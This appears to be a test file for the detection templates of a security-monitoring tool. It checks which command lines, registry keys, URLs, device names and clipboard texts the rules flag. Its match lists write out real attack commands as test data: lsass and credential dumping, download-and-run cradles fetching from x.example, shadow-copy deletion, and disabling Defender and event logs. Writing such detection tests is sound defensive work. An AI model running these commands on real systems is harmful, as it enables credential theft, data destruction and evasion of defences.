/** Which realistic command lines, paths and addresses the built-in templates match and which they do not. */
import { compile, respond } from '../../policies/engine';
import { responsePolicy, session } from '../../policies/engine/testing/examples';
import { BUILT_IN_TEMPLATES } from '../built-in-templates';

type Data = Record<string, string | number>;

/** The descriptions of the triggers of a template that match an event. */
function matched(id: string, type: Parameters<typeof respond>[2]['type'], data: Data): string[] {
  const template = BUILT_IN_TEMPLATES.find((candidate) => candidate.id === id);
  const policy = responsePolicy({ triggers: [...(template?.triggers ?? [])] });
  return [...(respond(compile(policy), session(), { type, data })?.descriptions ?? [])];
}

const BASE64 = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';

/** By template: command lines that match, and similar ones that do not. */
const COMMANDS: Record<string, { caught: string[]; left: string[] }> = {
  'credential-dumping': {
    caught: [
      'svc.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
      'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full',
      'rundll32.exe C:\\windows\\System32\\comsvcs.dll #+000024 624 C:\\temp\\l.dmp full',
      '"C:\\Windows\\System32\\rundll32.exe" C:\\Users\\Public\\c.dll,MiniDump 624 C:\\t\\l.dmp full',
      'procdump64.exe -accepteula -ma lsass.exe C:\\t\\out.dmp',
      '"C:\\t\\update.exe" -accepteula -ma lsass.exe out.dmp',
      '"C:\\windows\\system32\\reg.exe" save HKLM\\sam sam',
      'C:\\t\\r.exe export HKLM\\SECURITY C:\\t\\s.reg',
      'reg save "HKEY_LOCAL_MACHINE\\SYSTEM" sys.hiv /y',
      'ntdsutil "ac i ntds" "ifm" "create full c:\\t" q q',
      'cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\t\\',
      'esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d C:\\t\\sam',
      'r.exe kerberoast /outfile:hashes.txt',
      'powershell -c "IEX (gc .\\a.ps1 -raw); Invoke-Mimikatz -DumpCreds"',
    ],
    left: [
      'rundll32.exe shell32.dll,Control_RunDLL desk.cpl',
      'rundll32.exe C:\\windows\\System32\\comsvcs.dll,DllRegisterServer',
      'procdump64.exe -ma w3wp.exe C:\\t\\out.dmp',
      'reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time w32time.reg',
      'reg save HKCU\\Software\\Contoso settings.hiv',
      'reg query HKLM\\SAM',
      'ntdsutil "roles" "connections" q q',
      'tasklist /fi "imagename eq lsass.exe"',
    ],
  },
  'script-hosts': {
    caught: [
      `powershell.exe -nop -e ${BASE64}`,
      `powershell -EncodedCommand "${BASE64}"`,
      `PowerShell /enco ${BASE64}`,
      `pwsh.exe -ec ${BASE64}`,
      `"C:\\Users\\Public\\svc.exe" -nop -enc ${BASE64}`,
      'powershell -nop -w hidden -c "Get-Clipboard | Out-File x"',
      'powershell "IEX (New-Object Net.WebClient).DownloadString(\'http://x.example/a.ps1\')"',
      'powershell "(New-Object Net.WebClient).DownloadString(\'http://x.example/a.ps1\') | iex"',
      'powershell -c "irm https://x.example/a.ps1 | iex"',
      'certutil.exe /urlcache /f http://x.example/a.exe a.exe',
      'C:\\t\\c.exe -urlcache -split -f https://x.example/a.exe a.exe',
      'certutil -decode a.b64 a.exe',
      'bitsadmin /transfer job http://x.example/a.exe C:\\t\\a.exe',
      'mshta.exe http://x.example/a.hta',
      'mshta vbscript:Close(Execute("x"))',
      'regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll',
      'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "',
      'msiexec.exe /q /i https://x.example/a.msi',
      'wmic process list /format:"http://x.example/a.xsl"',
    ],
    left: [
      'powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory-of-all-machines.ps1',
      'powershell.exe -ep RemoteSigned -File C:\\scripts\\backup.ps1',
      'powershell.exe -WindowStyle Hidden -File \\\\dc\\netlogon\\drives.ps1',
      'powershell.exe -c "Get-Process -Name excel"',
      'certutil -hashfile setup.msi SHA256',
      'certutil -urlcache * delete',
      'msiexec.exe /i C:\\packages\\viewer.msi /qn',
      'regsvr32 /s C:\\app\\control.dll',
      'mshta.exe C:\\app\\help.hta',
      'ffmpeg.exe -i in.mov -encoder_options_for_this_video_are_long out.mp4',
    ],
  },
  'mass-deletion': {
    caught: [
      'vssadmin.exe delete shadows /all /quiet',
      'C:\\t\\v.exe delete shadows /all /quiet',
      'wmic shadowcopy where "ID=\'x\'" delete',
      'powershell "Get-WmiObject Win32_ShadowCopy | % { $_.Delete() }"',
      'wbadmin delete catalog -quiet',
      'bcdedit /set {default} recoveryenabled no',
      'cmd /c rd/s/q D:\\shares',
      'cmd.exe /c "del /f /s /q D:\\*.*"',
      'cmd /c echo x & rmdir /q /s D:\\data',
      'powershell "Remove-Item D:\\shares -Force -Recurse"',
      'powershell rm -r -fo D:\\shares',
      '"C:\\Program Files\\Git\\usr\\bin\\rm.exe" -rf /d/shares',
      'sdelete64.exe -p 3 D:\\plans',
      'cipher /w:D:\\',
      'format.com D: /q /y',
    ],
    left: [
      'vssadmin list shadows',
      'cmd /c del old.log',
      '"C:\\Tools\\del\\setup.exe" /s',
      'C:\\t\\setup-del.exe /S',
      '"C:\\Users\\erase\\viewer.exe" /s',
      'docker run --rm -it image',
      'powershell Remove-Item old.log',
      'git.exe log --format d:short',
      'cipher /e C:\\private',
    ],
  },
  'new-local-administrator': {
    caught: [
      'net localgroup Administrators eve /add',
      'net1.exe localgroup /add Administratoren eve',
      'C:\\t\\n.exe localgroup "Администраторы" eve /add',
      'net group "Domain Admins" eve /add /domain',
      'net user eve P4ss! /add',
      'net user administrator /active:yes',
      'powershell Add-LocalGroupMember -Group Administrators -Member eve',
      'powershell New-LocalUser eve -NoPassword',
    ],
    left: [
      'net localgroup Administrators',
      'net localgroup "Sales printers" bob /add',
      'net use Z: \\\\files\\admin /add',
      'net user eve',
      'net user eve /active:no',
      'net group "Domain Admins" /domain',
    ],
  },
  'rdp-hop': {
    caught: [
      'PsExec64.exe -accepteula -s \\\\SRV02 cmd',
      'C:\\t\\p.exe -accepteula \\\\SRV02 -u x cmd',
      'powershell Enter-PSSession SRV02',
      'powershell "Invoke-Command -ComputerName SRV02 { hostname }"',
      'winrs /u:x /r:SRV02 cmd',
      'wmic /node:SRV02 process call create cmd',
      'ssh adm@10.0.0.7',
      '"C:\\Windows\\System32\\OpenSSH\\ssh.exe" adm@10.0.0.7',
      'cmd /c plink -ssh 10.0.0.7',
    ],
    left: [
      'notepad.exe "C:\\docs\\ssh notes.txt"',
      'notepad C:\\docs\\ssh notes.txt',
      'psexec.exe -s cmd',
      'wmic process list',
      'ssh-keygen -t ed25519',
    ],
  },
  'security-tools-off': {
    caught: [
      'powershell Set-MpPreference -DisableRealtimeMonitoring $true',
      'powershell Add-MpPreference -ExclusionPath C:\\t',
      'sc.exe stop WinDefend',
      'sc \\\\SRV02 config Sense start= disabled',
      'net stop "Windows Defender Firewall"',
      'powershell Stop-Service Sysmon64 -Force',
      'taskkill /f /im MsMpEng.exe',
      'netsh advfirewall set allprofiles state off',
      'powershell Set-NetFirewallProfile -All -Enabled False',
      'wevtutil cl Security',
      'C:\\t\\w.exe cl Security',
      'powershell Clear-EventLog -LogName Security',
      'auditpol /clear /y',
      'fltmc unload SysmonDrv',
    ],
    left: [
      'powershell Set-MpPreference -DisableRealtimeMonitoring $false',
      'powershell Get-MpPreference',
      'sc query WinDefend',
      'sc config Sense start= auto',
      'net stop Spooler',
      'netsh advfirewall show allprofiles state',
      'wevtutil qe Security /c:5',
      'auditpol /get /category:*',
    ],
  },
  'unsigned-installers': {
    caught: [
      '"C:\\Users\\ada\\Downloads\\setup (1).exe" /S',
      'msiexec /i C:\\Users\\ada\\Downloads\\tool.msi',
      'wscript "C:\\Users\\ada\\AppData\\Local\\Temp\\Temp1_invoice.zip\\invoice.js"',
      'C:\\Users\\Public\\a.exe',
    ],
    left: [
      '"C:\\Program Files\\App\\setup.exe"',
      '"C:\\Program Files\\Reader\\reader.exe" "C:\\Users\\ada\\Downloads\\manual.pdf"',
      'winword.exe C:\\Users\\ada\\Downloads\\report.docx',
    ],
  },
  'remote-access-tools': {
    caught: ['C:\\t\\c.exe tunnel run --token abc', 'ngrok tcp 3389'],
    left: ['cloudflared --version'],
  },
};

describe.each(Object.entries(COMMANDS))('%s', (id, { caught, left }) => {
  it.each(caught)('matches %s', (commandLine) => {
    expect(matched(id, 'appStart', { appName: 'x.exe', commandLine })).toHaveLength(1);
  });

  it.each(left)('does not match %s', (commandLine) => {
    expect(matched(id, 'appStart', { appName: 'x.exe', commandLine })).toEqual([]);
  });
});

it('no template matches commands of everyday work', () => {
  const everyday = [
    'C:\\windows\\system32\\svchost.exe -k netsvcs -p -s DsmSvc',
    '"C:\\windows\\system32\\backgroundTaskHost.exe" -ServerName:CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca',
    '"LogonUI.exe" /flags:0x0 /state0:0xa3c06855 /state1:0x41c64e6d',
    'gpupdate.exe /target:user',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --enable-features=A,B --lang=en-US',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "D:\\shares\\delivery\\plan 2030.xlsx"',
    'robocopy D:\\a E:\\a /mir /s',
    'git commit -m "Remove the old group of administrators"',
    'npm run start -- --encoding utf8',
    'powershell.exe -NoProfile -Command "Get-ChildItem -Recurse | Measure-Object"',
  ];
  for (const { id } of BUILT_IN_TEMPLATES)
    for (const commandLine of everyday)
      expect([id, commandLine, matched(id, 'appStart', { appName: 'x.exe', commandLine })]).toEqual([
        id,
        commandLine,
        [],
      ]);
});

const usb = (deviceName: string) => matched('usb-exfiltration', 'genericUsb', { deviceName }).length;
const copied = (content: string) =>
  matched('clipboard-exfiltration', 'clipboardOperation', { dataType: 'text', content });
const opened = (url: string) => matched('webmail-and-file-sharing', 'webBrowsing', { url });
const setValue = (keyName: string, valueName: string, id = 'registry-persistence') =>
  matched(id, 'registrySetValue', { keyName, valueName }).length;
const started = (appName: string) =>
  matched('remote-access-tools', 'appStart', { appName, commandLine: appName }).length;

it('distinguishes storage from other USB devices', () => {
  const storage = [
    'Kingston DataTraveler 3.0',
    'SanDisk Ultra USB Device',
    'USB Mass Storage Device',
    'Samsung Portable SSD T7',
    'WD My Passport 25E2',
    'Generic- SD/MMC',
    'Pixel 8 MTP Device',
  ];
  expect(storage.map(usb)).toEqual(storage.map(() => 1));
  const others = [
    'Gemalto Smart Card Reader',
    'HID keyboard',
    'Logitech USB Headset',
    'Integrated Camera',
    'USB Composite Device',
  ];
  expect(others.map(usb)).toEqual(others.map(() => 0));
});

it('matches files written to a client drive', () => {
  const written = (path: string) => matched('usb-exfiltration', 'fileCreate', { path }).length;
  expect(
    ['\\\\tsclient\\E\\plans.docx', '\\\\Client\\E$\\plans.docx', 'C:\\client\\a.txt'].map(written),
  ).toEqual([1, 1, 0]);
});

it('distinguishes secrets from other text', () => {
  const cards = [
    '4111 1111 1111 1111',
    '5555-5555-5555-4444',
    '2223003122003222',
    '3782 822463 10005',
    '6011111111111117',
  ];
  const keys = [
    '-----BEGIN OPENSSH PRIVATE KEY-----',
    '-----BEGIN PGP PRIVATE KEY BLOCK-----',
    'PuTTY-User-Key-File-3: ssh-ed25519',
    'AKIAIOSFODNN7EXAMPLE',
    `ghp_${'a1B2'.repeat(9)}`,
    `AccountName=x;AccountKey=${'aB3+'.repeat(21)}==;EndpointSuffix=core.windows.net`,
  ];
  for (const text of [...cards, ...keys]) expect([text, copied(text)]).toEqual([text, [expect.any(String)]]);
  const other = [
    'order 1234567890123456',
    '+44 20 7946 0958',
    '-----BEGIN CERTIFICATE-----',
    'task-41111111111111112',
    '2030-01-15T12:00:00Z',
  ];
  for (const text of other) expect([text, copied(text)]).toEqual([text, []]);
});

it('distinguishes webmail and file sharing from other sites, with and without the scheme', () => {
  const sites = [
    'mail.google.com/mail/u/0/',
    'https://outlook.live.com/mail/0/',
    'https://WWW.dropbox.com/home',
    'gigafile.nu',
    'https://12.gigafile.nu/1',
    'https://mega.nz/#F',
  ];
  for (const url of sites) expect([url, opened(url)]).toEqual([url, [expect.any(String)]]);
  const other = [
    'https://outlook.office.com/mail/',
    'https://contoso.example?x=.dropbox.com/',
    'https://notdropbox.com/',
    'https://dropbox.com.contoso.example/',
    'https://contoso.example/dropbox.com',
    'https://inbox.com/',
  ];
  for (const url of other) expect([url, opened(url)]).toEqual([url, []]);
});

it('distinguishes persistence in the registry from its everyday use', () => {
  const NT = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion';
  const SERVICES = 'HKLM\\System\\CurrentControlSet\\Services';
  const persistent: [string, string][] = [
    ['HKU\\S-1-5-21-1-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'Updater'],
    ['HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce', 'x'],
    ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunServicesOnce', 'x'],
    [`${NT}\\Winlogon`, 'Userinit'],
    [`${NT}\\Windows`, 'AppInit_DLLs'],
    [`${NT}\\Image File Execution Options\\sethc.exe`, 'Debugger'],
    [`${NT}\\SilentProcessExit\\notepad.exe`, 'MonitorProcess'],
    [`${SERVICES}\\Updater`, 'ImagePath'],
    ['HKLM\\System\\ControlSet001\\Services\\Updater\\Parameters', 'ServiceDll'],
    ['HKLM\\System\\CurrentControlSet\\Control\\Lsa', 'Security Packages'],
    ['HKU\\S-1-5-21-1-1104\\Environment', 'UserInitMprLogonScript'],
  ];
  for (const [key, value] of persistent) expect([key, value, setValue(key, value)]).toEqual([key, value, 1]);
  const everyday: [string, string][] = [
    [`${SERVICES}\\Tcpip\\Parameters`, 'DhcpNameServer'],
    [`${SERVICES}\\W32Time`, 'Start'],
    [`${SERVICES}\\W32Time\\SecureTimeLimits`, 'SecureTimeHigh'],
    ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\VFUProvider', 'StartTime'],
    ['HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU', 'a'],
    [`${NT}\\Winlogon`, 'LastLogOffEndTimePerfCounter'],
    ['HKCU\\Environment', 'Path'],
  ];
  for (const [key, value] of everyday) expect([key, value, setValue(key, value)]).toEqual([key, value, 0]);
  expect(
    setValue('HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths', 'C:\\t', 'security-tools-off'),
  ).toBe(1);
});

it('identifies remote-access tools by their programs', () => {
  const tools = [
    'AnyDesk (1).exe',
    'TeamViewerQS_x64.exe',
    'remoting_host.exe',
    'quickassist.exe',
    'AA_v3.exe',
    'client32.exe',
    'MeshAgent64.exe',
    'ScreenConnect.ClientService.exe',
    'cloudflared-windows-amd64.exe',
  ];
  expect(tools.map((name) => [name, started(name)])).toEqual(tools.map((name) => [name, 1]));
  const others = ['notepad.exe', 'mstsc.exe', 'TeamsUpdater.exe', 'client.exe', 'wfica32.exe'];
  expect(others.map((name) => [name, started(name)])).toEqual(others.map((name) => [name, 0]));
});

it('matches the prompt about unknown publishers in other languages', () => {
  const asked = (windowContent: string) =>
    matched('unsigned-installers', 'popupWindow', { windowContent }).length;
  expect(
    [
      '発行元: 不明な発行元',
      'Unbekannter Herausgeber',
      'Éditeur : Inconnu',
      'Editor desconocido',
      'Save changes?',
    ].map(asked),
  ).toEqual([1, 1, 1, 1, 0]);
});
